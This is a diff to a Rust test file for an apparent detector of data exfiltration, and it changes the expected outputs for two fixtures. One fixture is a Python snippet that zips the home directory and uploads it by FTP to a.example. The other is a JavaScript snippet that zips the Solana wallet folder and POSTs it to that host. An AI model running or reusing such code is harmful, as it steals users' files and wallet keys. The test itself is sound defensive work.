@@ -91,9 +91,9 @@ fn a_command_that_sends_is_a_call_that_sends() {
 #[test]
 fn what_is_packed_in_memory_is_in_the_buffer() {
     let packed = "import ftplib\nimport io\nimport os\nimport zipfile\n\ndef sweep():\n    buffer = io.BytesIO()\n    with zipfile.ZipFile(buffer, 'w') as archive:\n        for root, folders, files in os.walk(os.path.expanduser('~')):\n            for name in files:\n                archive.write(os.path.join(root, name))\n    return buffer\n\nftplib.FTP('a.example').storbinary('STOR x', sweep())\n";
-    assert_eq!(sent("acme.py", packed), "file *, folder ~ -> a.example");
+    assert_eq!(sent("acme.py", packed), "file */*, folder ~ -> a.example");
     let folder = "const Zip = require('adm-zip');\nconst zip = new Zip();\nzip.addLocalFolder(require('os').homedir() + '/.config/solana');\nfetch('https://a.example/', { method: 'POST', body: zip.toBuffer() });";
-    assert_eq!(sent("index.js", folder), "file ~/.config/solana -> a.example");
+    assert_eq!(sent("index.js", folder), "file *, file ~/.config/solana, home-folder -> a.example");
 }
 
 #[test]
